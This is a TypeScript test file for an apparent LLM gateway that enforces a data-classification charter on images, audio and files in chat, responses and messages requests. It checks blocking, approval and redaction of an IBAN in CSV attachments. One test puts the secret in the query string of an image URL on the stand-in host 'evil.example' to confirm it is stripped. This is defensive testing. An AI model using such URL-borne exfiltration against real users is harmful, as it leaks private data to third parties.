// Pictures, sounds and files for a model: what says it is text is read, what nobody can read goes only where the charter lets it.
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { type Api, readRequest } from '../../../src/gateway/llm/request.ts'
import { json, type Script } from './provider.ts'
import { openStage, type Stage } from './stage.ts'
import { chatWhole, messagesWhole, responsesWhole } from './wire.ts'

const iban = 'GB33BUKB20201555555555'
const policy = {
  classes: ['public', 'secret'],
  labels: [{ pattern: 'iban', class: 'secret' }],
  flows: [{ class: 'secret', to: ['desk.*'], else: 'redact' }],
}
const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]).toString('base64')
const words = Buffer.from(`name,account\nAnn,${iban}\n`).toString('base64')
const link = 'https://pictures.example/one.png'

type Part = 'picture' | 'link' | 'sound' | 'file' | 'csv' | 'disguised' | 'id'
const parts: Readonly<Record<Api, Readonly<Partial<Record<Part, unknown>>>>> = {
  chat: {
    picture: { type: 'image_url', image_url: { url: `data:image/png;base64,${png}` } },
    link: { type: 'image_url', image_url: { url: link } },
    sound: { type: 'input_audio', input_audio: { data: png, format: 'wav' } },
    file: { type: 'file', file: { filename: 'a.pdf', file_data: `data:application/pdf;base64,${png}` } },
    csv: { type: 'file', file: { filename: 'a.csv', file_data: `data:text/csv;base64,${words}` } },
    disguised: { type: 'file', file: { filename: 'a.csv', file_data: `data:text/csv;base64,${png}` } },
    id: { type: 'file', file: { file_id: 'file-1' } },
  },
  responses: {
    picture: { type: 'input_image', image_url: `data:image/png;base64,${png}` },
    link: { type: 'input_image', image_url: link },
    file: { type: 'input_file', filename: 'a.pdf', file_data: png },
    csv: { type: 'input_file', filename: 'a.csv', file_data: words },
    disguised: { type: 'input_file', filename: 'a.csv', file_data: png },
    id: { type: 'input_file', file_id: 'file-1' },
  },
  messages: {
    picture: { type: 'image', source: { type: 'base64', media_type: 'image/png', data: png } },
    link: { type: 'image', source: { type: 'url', url: link } },
    file: { type: 'document', source: { type: 'base64', media_type: 'application/pdf', data: png } },
    csv: { type: 'document', title: 'a', source: { type: 'base64', media_type: 'text/csv', data: words } },
    disguised: { type: 'document', source: { type: 'base64', media_type: 'text/csv', data: png } },
    id: { type: 'container_upload', file_id: 'file-1' },
  },
}
const bodyOf = (api: Api, part: unknown): Record<string, unknown> =>
  api === 'responses'
    ? { model: 'gpt-5', input: [{ role: 'user', content: [part] }] }
    : api === 'chat'
      ? { model: 'gpt-5', messages: [{ role: 'user', content: [part] }] }
      : { model: 'claude-5', max_tokens: 10, messages: [{ role: 'user', content: [part] }] }
const paths = { chat: '/gpt/v1/chat/completions', responses: '/gpt/v1/responses', messages: '/claude/v1/messages' }
const answers: Readonly<Record<Api, Script>> = {
  chat: json(chatWhole({ text: ['Seen.'], calls: [] })),
  responses: json(responsesWhole({ text: ['Seen.'], calls: [] })),
  messages: json(messagesWhole({ text: ['Seen.'], calls: [] })),
}

async function send(stage: Stage, api: Api, part: unknown): Promise<{ status: number; text: string }> {
  stage.provider.script = answers[api]
  const answer = await fetch(`${stage.url}${paths[api]}`, {
    method: 'POST',
    headers: {
      authorization: 'Bearer token-ann',
      'content-type': 'application/json',
      'anthropic-version': '2023-06-01',
    },
    body: JSON.stringify(bodyOf(api, part)),
  })
  return { status: answer.status, text: await answer.text() }
}

for (const [api, all] of Object.entries(parts) as [Api, Record<Part, unknown>][]) {
  test(`${api}: what can be read is read, and the rest counted`, () => {
    const read = (part: Part): { unread: number; said: readonly string[] } => {
      const { unread, said } = readRequest(api, bodyOf(api, all[part]), new Set())
      return { unread, said: said.filter(({ who }) => who === 'attached').map(({ text }) => text) }
    }
    for (const part of Object.keys(all) as Part[]) assert.equal(read(part).unread, part === 'csv' ? 0 : 1, part)
    assert.deepEqual(read('link').said, [link])
    assert.deepEqual(read('picture').said, [])
    assert.ok(read('csv').said.some((text) => text.includes(iban)))
    assert.deepEqual(read('id').said, ['file-1'])
  })
}

test('pictures and files count wherever they stand, and what the provider sealed is none of them', () => {
  const blob = Buffer.alloc(768, 0xff).toString('base64')
  const picture = `data:image/png;base64,${png}`
  const pdf = { type: 'document', source: { type: 'base64', media_type: 'application/pdf', data: blob } }
  const tools = [{ type: 'image_generation', input_image_mask: { image_url: picture } }]
  const cases: readonly (readonly [Api, Record<string, unknown>, unread: number, sealed: number])[] = [
    [
      'responses',
      { input: [{ type: 'computer_call_output', output: { type: 'computer_screenshot', image_url: picture } }] },
      1,
      0,
    ],
    [
      'responses',
      { input: [{ type: 'computer_call_output', output: { type: 'computer_screenshot', file_id: 'f' } }] },
      1,
      0,
    ],
    ['responses', { input: [{ type: 'image_generation_call', id: 'ig_1', result: blob }] }, 1, 0],
    ['responses', { input: 'Hi', tools }, 1, 0],
    ['responses', { input: [{ type: 'reasoning', id: 'rs_1', summary: [] }] }, 0, 1],
    ['responses', { input: [{ type: 'compaction', encrypted_content: blob }] }, 0, 1],
    [
      'messages',
      { messages: [{ role: 'assistant', content: [{ type: 'web_fetch_tool_result', content: pdf }] }] },
      1,
      0,
    ],
    ['messages', { messages: [{ role: 'assistant', content: [{ type: 'redacted_thinking', data: blob }] }] }, 0, 1],
    ['chat', { messages: [{ role: 'assistant', content: 'x', images: [{ image_url: { url: picture } }] }] }, 1, 0],
  ]
  for (const [api, body, unread, sealed] of cases) {
    const read = readRequest(api, { model: 'm', ...body }, new Set())
    assert.deepEqual([read.unread, read.sealed], [unread, sealed], JSON.stringify(body).slice(0, 200))
  }
})

describe('a workflow that handles more than the lowest class', () => {
  let strict: Stage
  let free: Stage
  let asking: Stage
  before(async () => {
    strict = await openStage({ words: { charter: { data: policy } } })
    free = await openStage({ words: { charter: { data: policy }, workflow: { unread: 'allow' } } })
    const approvals = { look: { by: 'clerk', not: 'requester' } }
    asking = await openStage({ words: { charter: { data: policy, approvals }, workflow: { unread: 'look' } } })
  })
  after(async () => {
    for (const stage of [strict, free, asking]) await stage?.close()
  })

  for (const [api, all] of Object.entries(parts) as [Api, Record<Part, unknown>][]) {
    test(`${api}: sends nothing that cannot be read, unless the charter says so`, async () => {
      const source = api === 'messages' ? 'claude' : 'gpt'
      for (const part of ['picture', 'file', 'disguised'] as const) {
        const before = strict.provider.seen.length
        const refused = await send(strict, api, all[part])
        assert.equal(refused.status, 403, part)
        assert.match(refused.text, /cannot be read here/)
        assert.equal(strict.provider.seen.length, before)
        assert.deepEqual(
          strict.last('decision').reasons.map(({ constraint }) => constraint),
          [`${source}.generate.flow`],
        )
      }
      assert.equal((await send(free, api, all.picture)).status, 200)
      const asked = await send(asking, api, all.picture)
      assert.match(asked.text, /approval/)
      assert.equal(asking.last('decision').effect, 'ask')
    })

    test(`${api}: sends files that are text without what may not go there`, async () => {
      const { status, text } = await send(strict, api, all.csv)
      assert.equal(status, 200, text)
      const sent = JSON.stringify(strict.provider.seen.at(-1)?.body)
      const [, base64 = ''] = /"(?:data:text\/csv;base64,)?(bmFtZ[A-Za-z0-9+/=]+)"/.exec(sent) ?? []
      assert.equal(Buffer.from(base64, 'base64').toString(), 'name,account\nAnn,[secret]\n')
    })
  }

  test('the address of a picture carries nothing away', async () => {
    const part = { type: 'image_url', image_url: { url: `https://evil.example/?q=${iban}` } }
    assert.equal((await send(free, 'chat', part)).status, 200)
    assert.ok(!JSON.stringify(free.provider.seen.at(-1)?.body).includes(iban))
  })
})

test('without classes that may not go everywhere, pictures go', async () => {
  const stage = await openStage()
  try {
    assert.equal((await send(stage, 'chat', parts.chat.picture)).status, 200)
  } finally {
    await stage.close()
  }
})
